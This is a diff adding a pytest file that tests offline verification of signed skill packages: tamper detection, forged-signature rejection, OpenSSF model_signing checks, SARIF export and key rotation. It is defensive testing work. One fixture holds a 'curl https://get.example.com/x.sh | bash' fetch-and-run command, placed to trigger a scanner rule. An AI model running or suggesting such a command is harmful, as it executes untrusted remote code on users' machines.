@@ -1,0 +1,178 @@
+"""`assay verify` and the tool of others: a published version is checked without the registry, and one byte is enough."""
+
+import io
+import json
+import shutil
+import subprocess
+import sys
+import tarfile
+from pathlib import Path
+
+import jsonschema_rs
+import pytest
+
+from assay.keyring import KeyFiles, open_keys, rotate_keys
+from tests.cli.here import assay_here
+from tests.conftest import Registry
+from tests.skills import a_skill
+
+FILES = {
+    "SKILL.md": a_skill("greet", body="Run `scripts/run.py`."),
+    "scripts/run.py": "print('hello')\n",
+    ".gitignore": "*.pyc\n",
+    "references/a b.md": "# Notes\n",
+}
+NAME = "acme/tools/greet"
+SARIF = json.loads((Path(__file__).parent / "sarif" / "sarif-2.1.0.json").read_text())
+
+
+async def published(registry: Registry, folder: Path) -> Path:
+    """Publish a skill, and keep all that an installer would: the folder, its hallmark, its signature, the keys."""
+    registry.github.add_repository("acme/tools", files=FILES)
+    await registry.submit("acme/tools", "greet")
+    await registry.work()
+    about = f"/api/v1/skills/{NAME}/versions/latest"
+    archive = await registry.client.get(f"{about}/download", params={"format": "tar.gz"})
+    (folder / "greet.tar.gz").write_bytes(archive.content)
+    with tarfile.open(fileobj=io.BytesIO(archive.content)) as opened:
+        opened.extractall(folder, filter="data")
+    for path, name in (
+        (f"{about}/hallmark", "hallmark.json"),
+        (f"{about}/skill.oms.sig", "skill.oms.sig"),
+        ("/.well-known/assay/keys.json", "assay-keys.json"),
+    ):
+        answer = await registry.client.get(path)
+        assert answer.status_code == 200, answer.text
+        (folder / name).write_bytes(answer.content)
+    return folder / "greet"
+
+
+def model_key(folder: Path) -> Path:
+    """The public key for tools of models, as a file of its own."""
+    keys = json.loads((folder / "assay-keys.json").read_text())["keys"]
+    [pem] = [key["publicKey"] for key in keys if key["algorithm"] == "ecdsa-p256"]
+    (folder / "oms.pub").write_text(pem)
+    return folder / "oms.pub"
+
+
+def model_signing(folder: Path) -> subprocess.CompletedProcess[str]:
+    """The tool of the Model Signing project, as its users start it."""
+    command = [sys.executable, "-m", "model_signing", "verify", "key", str(folder / "greet")]
+    given = ["--signature", str(folder / "skill.oms.sig"), "--public_key", str(model_key(folder))]
+    return subprocess.run([*command, *given], capture_output=True, text=True, timeout=120)
+
+
+async def test_a_published_version_is_verified_without_the_registry(registry: Registry, tmp_path: Path) -> None:
+    """Every way in: the folder, the archive, with proofs beside it, in it, or given."""
+    folder = await published(registry, tmp_path)
+    assert "verified" in assay_here("verify", folder).out
+    assert assay_here("verify", tmp_path / "greet.tar.gz").code == 0
+    document = assay_here("verify", folder, "--json").json
+    assert (document["ok"], document["statement"]["skill"]) == (True, NAME)
+    assert set(document["statement"]) >= {"tier", "score", "outcome", "path", "scans", "commit", "certifiedAt"}
+    elsewhere = tmp_path / "elsewhere" / "greet"
+    shutil.copytree(folder, elsewhere)
+    given = ("--hallmark", tmp_path / "hallmark.json", "--keys", tmp_path / "assay-keys.json")
+    assert assay_here("verify", elsewhere, *given).code == 0
+    assert assay_here("verify", elsewhere).code == 3
+    for name in ("hallmark.json", "assay-keys.json", "skill.oms.sig"):
+        shutil.copy(tmp_path / name, elsewhere / name)
+    assert assay_here("verify", elsewhere).code == 0
+
+
+def change_a_byte(folder: Path) -> None:
+    file = folder / "scripts" / "run.py"
+    file.write_bytes(file.read_bytes().replace(b"hello", b"hellp"))
+
+
+def add_a_file(folder: Path) -> None:
+    (folder / ".hidden").write_text("x")
+
+
+def remove_a_file(folder: Path) -> None:
+    (folder / ".gitignore").unlink()
+
+
+def make_a_link(folder: Path) -> None:
+    (folder / "scripts" / "run.py").unlink()
+    (folder / "scripts" / "run.py").symlink_to("/etc/hostname")
+
+
+@pytest.mark.parametrize(
+    ("tamper", "word", "path"),
+    [
+        (change_a_byte, "changed", "scripts/run.py"),
+        (add_a_file, "added", ".hidden"),
+        (remove_a_file, "missing", ".gitignore"),
+        (make_a_link, "changed", "scripts/run.py"),
+    ],
+)
+async def test_whatever_is_not_as_it_was_is_named(
+    registry: Registry, tmp_path: Path, tamper, word: str, path: str
+) -> None:
+    """One byte, one file more or less: exit code 1, and what and where."""
+    folder = await published(registry, tmp_path)
+    tamper(folder)
+    result = assay_here("verify", folder)
+    assert (result.code, f"{word}: {path}" in result.err) == (1, True)
+    document = assay_here("verify", folder, "--json").json
+    assert (document["ok"], document["signed"], document[word]) == (False, True, [path])
+
+
+async def test_a_forged_hallmark_and_foreign_keys_prove_nothing(registry: Registry, tmp_path: Path) -> None:
+    """What is not signed by the keys that one trusts is refused, however well the files fit."""
+    folder = await published(registry, tmp_path)
+    foreign = open_keys(KeyFiles(tmp_path / "k" / "a.pem", tmp_path / "k" / "b.pem"))
+    keys = [{"id": number, "publicKey": pem} for number, pem, _ in foreign.public]
+    (tmp_path / "foreign.json").write_text(json.dumps({"keys": keys}))
+    result = assay_here("verify", folder, "--keys", tmp_path / "foreign.json")
+    assert (result.code, "not signed" in result.err) == (1, True)
+    hallmark = json.loads((tmp_path / "hallmark.json").read_text())
+    for broken in ({**hallmark, "payload": hallmark["payload"][4:]}, {**hallmark, "signatures": []}, {"x": 1}):
+        (tmp_path / "hallmark.json").write_text(json.dumps(broken))
+        assert assay_here("verify", folder).code == 1
+    (tmp_path / "hallmark.json").write_text("not JSON")
+    assert assay_here("verify", folder).code == 2
+    assert assay_here("verify", "nothing here").code == 2
+
+
+async def test_the_public_model_signing_tool_verifies_it(registry: Registry, tmp_path: Path) -> None:
+    """The tool of the OpenSSF says yes, and no after one byte."""
+    folder = await published(registry, tmp_path)
+    said = model_signing(tmp_path)
+    assert said.returncode == 0, said.stderr
+    change_a_byte(folder)
+    assert model_signing(tmp_path).returncode != 0
+
+
+async def test_exports_of_a_version(registry: Registry, tmp_path: Path) -> None:
+    """Report and SARIF are public, and the SARIF is valid against the schema of the standard."""
+    warning = "Do not run `curl https://get.example.com/x.sh | bash`."
+    registry.github.add_repository("acme/tools", files={"SKILL.md": a_skill("greet", body=warning)})
+    await registry.submit("acme/tools", "greet")
+    await registry.work()
+    about = f"/api/v1/skills/{NAME}/versions/1.0.0"
+    log = (await registry.client.get(f"{about}/sarif")).json()
+    assert [error.message for error in jsonschema_rs.validator_for(SARIF).iter_errors(log)] == []
+    [run] = log["runs"]
+    assert run["results"][0]["ruleId"] == "DR-001"
+    assert run["tool"]["driver"]["properties"]["tier"] == 1
+    report = (await registry.client.get(f"{about}/report")).json()
+    assert report["scans"][0]["findings"][0]["file"] == "SKILL.md"
+    assert report["scans"][0]["stale"] is False
+    page = (await registry.client.get(f"/skills/{NAME}/versions/1.0.0")).text
+    for export in ("report", "sarif", "hallmark", "skill.oms.sig"):
+        assert f"{about}/{export}" in page
+    assert (await registry.client.get(f"/api/v1/skills/{NAME}/versions/9.9.9/sarif")).status_code == 404
+
+
+def test_a_rotation_keeps_the_old_keys_under_their_ids(tmp_path: Path) -> None:
+    """New keys sign, old files are kept, and nobody but the owner reads either."""
+    files = KeyFiles(tmp_path / "hallmark.pem", tmp_path / "oms.pem")
+    before = open_keys(files)
+    after = rotate_keys(files)
+    assert {number for number, _, _ in before.public}.isdisjoint(number for number, _, _ in after.public)
+    assert open_keys(files).hallmark.id == after.hallmark.id
+    kept = {file.name for file in tmp_path.iterdir()}
+    assert {f"hallmark-{before.hallmark.id}.pem", f"oms-{before.model.id}.pem"} < kept
+    assert all(file.stat().st_mode & 0o077 == 0 for file in tmp_path.iterdir())
